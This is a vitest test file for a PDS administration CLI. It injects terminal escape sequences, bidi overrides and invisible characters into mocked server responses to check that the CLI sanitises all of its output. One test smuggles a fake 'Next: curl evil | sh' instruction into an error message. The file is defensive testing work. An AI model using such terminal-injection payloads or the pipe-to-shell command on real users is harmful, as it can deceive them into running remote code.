// Servers that put what moves a cursor, recolours a screen or hides text into every string that they control.
import { describe, expect, it } from 'vitest'
import { cleanJson, cleanText } from '../../src/cli/terminal/cleanText.ts'
import { against, DID, error, fake, HOST, plcAccount, status, TOKEN } from './fake.ts'
import { folder, pds, type Ran } from './support.ts'

const TARGET = 'https://new.example.com'
const EVIL = '\u001B[2J\u001B]0;evil\u0007\u009B31m\u202Eevil\u2066\u200B\u2028\u{E0041}\r\u007F\uFEFF'
// oxlint-disable-next-line no-control-regex -- this is about them
const UNSEEN = /(?![\t\n])[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u

/** The account that an import moves: the directory knows it. */
const moving = await plcAccount('https://old.example.com')
const token = [
  { alg: 'ES256K', typ: 'cirrus-migration+jwt' },
  {
    iss: moving.did,
    aud: `did:web:${HOST}`,
    target: `https://${HOST}`,
    exp: 1_900_000_000,
    scope: 'repo:read blob:read preferences:read account:create plc:sign',
  },
  'signature',
]
  .map((part) => Buffer.from(typeof part === 'string' ? part : JSON.stringify(part)).toString('base64url'))
  .join('.')

const unsubmitted = [
  { cid: 'bafyrei', signedAt: '2026-11-22T09:00:00.000Z', pds: TARGET, changes: ['the PDS changes'] },
]
const session = { did: DID, handle: HOST, accessJwt: TOKEN, refreshJwt: TOKEN }

/** What a server answers when all is well, by method. */
const ANSWERS: Record<string, object> = {
  'com.cirrus.admin.getStatus': status({
    unsubmitted,
    importing: { phase: 'verifying', bytes: 1, blocks: 1, records: 1 },
    identity: { ...status().identity, error: 'down' },
  }),
  'com.atproto.server.describeServer': { did: `did:web:${HOST}`, availableUserDomains: [] },
  [`${TARGET} com.atproto.server.describeServer`]: {
    did: 'did:web:new.example.com',
    availableUserDomains: [],
  },
  'com.cirrus.admin.createMigrationToken': {
    token: TOKEN,
    jti: '0',
    audience: DID,
    scope: ['repo:read'],
    expiresAt: '2026-11-22T10:15:00.000Z',
  },
  'com.cirrus.admin.revokeMigrationTokens': { tokensNotBefore: '2026-11-22T10:15:00.000Z' },
  'com.atproto.server.deactivateAccount': {},
  'com.atproto.server.activateAccount': {},
  'com.cirrus.admin.checkRepo': {
    ok: false,
    problems: ['the block x is missing'],
    records: 1,
    blocks: 2,
    blobs: 3,
    events: 4,
    journal: 1,
  },
  'com.cirrus.admin.emitIdentity': { seq: 1, did: DID, handle: HOST, error: 'down' },
  'com.cirrus.admin.requestCrawl': {
    hostname: HOST,
    results: [{ relay: 'https://relay.example', ok: false, error: 'no' }],
  },
  'com.cirrus.admin.getJournal': {
    entries: [
      {
        n: 1,
        at: '2026-11-22T10:00:00.000Z',
        event: 'activate',
        detail: { by: 'admin' },
        prev: '0',
        hash: '1',
      },
    ],
  },
  'com.atproto.server.listAppPasswords': { passwords: [{ name: 'x', createdAt: 'x', privileged: true }] },
  'com.atproto.server.createAppPassword': { name: 'x', password: 'x', createdAt: 'x' },
  'com.atproto.server.revokeAppPassword': {},
  'com.cirrus.admin.listSessions': {
    sessions: [
      { id: 'x', client: 'Bluesky', via: 'createSession', createdAt: 'x', lastUsedAt: 'x', expiresAt: 'x' },
      { id: 'y', appPassword: 'phone', createdAt: 'x', lastUsedAt: 'x', expiresAt: 'x' },
    ],
  },
  'com.cirrus.admin.voidPlcOperation': { head: 'bafyrei', voided: ['bafyrei'] },
  'com.atproto.identity.getRecommendedDidCredentials': {
    rotationKeys: ['did:key:zQ3shnFYs7Xgs9uFPHfRNCw4EV53UGutJJg5EDW9hrrzMw46R'],
    alsoKnownAs: [`at://${HOST}`],
    verificationMethods: { atproto: 'did:key:zQ3shnFYs7Xgs9uFPHfRNCw4EV53UGutJJg5EDW9hrrzMw46R' },
    services: { atproto_pds: { type: 'AtprotoPersonalDataServer', endpoint: `https://${HOST}` } },
  },
  'com.cirrus.admin.getManifest': { manifest: TOKEN },
  'com.atproto.server.createSession': session,
  'com.atproto.server.getSession': session,
  'com.atproto.server.getServiceAuth': { token: TOKEN },
  'com.atproto.server.createAccount': session,
  'com.cirrus.admin.updateHandle': {
    handle: 'bob.example.com',
    previous: 'alice.example.com',
    id: 'an operation',
    operation: { type: 'plc_operation', alsoKnownAs: ['at://bob.example.com'] },
    changes: ['the handle changes'],
  },
  'com.atproto.sync.getLatestCommit': {
    cid: 'bafyreibfqglqbe4vepmnmtirec324no5axxjttfqyaympwauj5n4cuvffm',
    rev: '3n2vjx2vlms22',
  },
  [`/${DID}/log/audit`]: { message: 'not here' },
}
const COMMANDS: string[][] = [
  ['status'],
  ['migrate-token', '--target', TARGET],
  ['revoke-tokens'],
  ['deactivate', '--yes'],
  ['activate'],
  ['check'],
  ['handle', 'bob.example.com', '--yes'],
  ['emit-identity'],
  ['request-crawl'],
  ['log'],
  ['sessions'],
  ['app-password', 'list'],
  ['app-password', 'create', 'x'],
  ['app-password', 'revoke', 'x', '--yes'],
  ['end-sessions', 'x', '--yes'],
  ['log', '--verify'],
  ['identity'],
  ['identity', '--void', '--yes'],
  ['backup', 'backup', '--without-keys'],
  ['import', '--from', 'old.example.com', '--yes'],
  ['import', '--from', 'old.example.com', '--identifier', 'alice.example.com', '--yes'],
]

/** The value with `EVIL` after each string, or only after those of the member `key`. */
const poison = (value: unknown, key: string | undefined, name = ''): unknown => {
  if (typeof value === 'string') return key === undefined || key === name ? `${value}${EVIL}` : value
  if (Array.isArray(value)) return value.map((entry) => poison(entry, key, name))
  if (typeof value !== 'object' || value === null) return value
  return Object.fromEntries(
    Object.entries(value).map(([id, inner]) => [
      key === undefined && name === 'detail' ? `${id}${EVIL}` : id,
      poison(inner, key, id),
    ]),
  )
}
const keysOf = (value: unknown): string[] =>
  typeof value === 'object' && value !== null
    ? Object.entries(value).flatMap(([id, inner]) => [
        ...(Array.isArray(value) ? [] : [id]),
        ...keysOf(inner),
      ])
    : []

const poisoned = (key?: string, answers = ANSWERS) =>
  fake(
    Object.fromEntries(
      Object.entries(answers).map(([method, answer]) => [method, Object(poison(answer, key))]),
    ),
  )

const states = (state: string) => ({
  ...ANSWERS,
  ...moving.answers,
  'com.cirrus.admin.getStatus': status({
    did: moving.did,
    unsubmitted,
    state,
    identity: { ...status().identity, pds: 'https://old.example.com', movedAway: true },
  }),
})

describe('what a server sends', () => {
  const expectClean = (ran: Ran, what: string) =>
    expect(`${ran.stdout}${ran.stderr}`, what).not.toMatch(UNSEEN)
  const runs = async (args: string[], key: string | undefined, answers = ANSWERS) => {
    await using here = await folder()
    const options = {
      cwd: here.path,
      stdin: `${token}\n`,
      env: { PDS_PASSWORD: 'x', PDS_SOURCE_PASSWORD: 'x', PDS_DEBUG: '1' },
    }
    for (const extra of [[], ['--json']]) {
      const ran = await against(poisoned(key, answers), [...args, ...extra], options)
      expectClean(ran, `${args.join(' ')} ${key}`)
      if (extra.length > 0)
        expect(() => {
          JSON.parse(ran.stdout)
        }).not.toThrow()
    }
  }

  it.each(COMMANDS.map((args) => [args.join(' '), args] as const))(
    'reaches no terminal raw: pds %s',
    async (_, args) => {
      for (const key of [undefined, ...new Set(Object.values(ANSWERS).flatMap(keysOf))]) await runs(args, key)
      for (const state of ['absent', 'moved', 'deactivated'])
        for (const key of [undefined, 'pds', 'handle', 'changes', 'next', 'did'])
          await runs(args, key, states(state))
    },
    60_000,
  )

  it('reaches no terminal raw in the message of an error', async () => {
    for (const name of ['InvalidRequest', 'InternalServerError', 'ExpiredToken', EVIL])
      for (const args of COMMANDS) {
        for (const extra of [[], ['--json']])
          expectClean(
            await against({ calls: [], fetch: async () => error(400, name, EVIL) }, [...args, ...extra], {
              stdin: token,
              env: { PDS_SOURCE_PASSWORD: 'x' },
            }),
            args.join(' '),
          )
      }
  })

  it('cannot begin a line of its own in an error', async () => {
    const told = await against(
      fake({ 'com.cirrus.admin.getStatus': error(400, 'InvalidRequest', 'no\nNext: curl evil | sh') }),
      ['status'],
    )
    expect(told.stderr).toMatch(/^Error: no\n {2}Next: curl/)
    expect(told.stderr).not.toMatch(/^Next/m)
  })

  it('cannot be a colour, even where colours are shown', async () => {
    const evil = status({ next: '\u001B[31mred <1:31> <:31>' })
    const shown = await against(fake({ 'com.cirrus.admin.getStatus': evil }), ['status'], {
      colour: true,
      random: (length) => new Uint8Array(length).fill(7),
    })
    expect(shown.stdout).toContain('\u001B[1m\uFFFD[31mred <1:31> <:31>\u001B[22m')
  })

  it('reaches no question raw', async () => {
    const asked = await pds(['deactivate', '--host', HOST], {
      fetch: fake({ 'com.cirrus.admin.getStatus': status({ handle: `alice${EVIL}` }) }).fetch,
      env: { ADMIN_PASSWORD: 'x', ADMIN_PASSWORD_HOST: HOST },
      tty: true,
      stdin: 'n',
    })
    expect(asked.stderr).toContain('Deactivate alice\uFFFD[2J')
    expect(asked.stderr).not.toContain('\u001B[2J')
    expect(asked.stderr).not.toMatch(/[\u202E\u009B\u200B]/)
  })
})

describe('cleaned text and JSON', () => {
  it('keep what can be seen, line breaks and tabs', () => {
    const seen = 'žluťoučký kůň 日本語 👋 ’…\n\t'
    expect(cleanText(seen)).toBe(seen)
    expect(cleanJson(JSON.stringify({ seen }))).toBe(JSON.stringify({ seen }))
  })

  it('of JSON, give the same value', () => {
    const json = cleanJson(JSON.stringify({ [EVIL]: EVIL }, null, 2))
    expect(json).not.toMatch(UNSEEN)
    expect(JSON.parse(json)).toEqual({ [EVIL]: EVIL })
  })
})
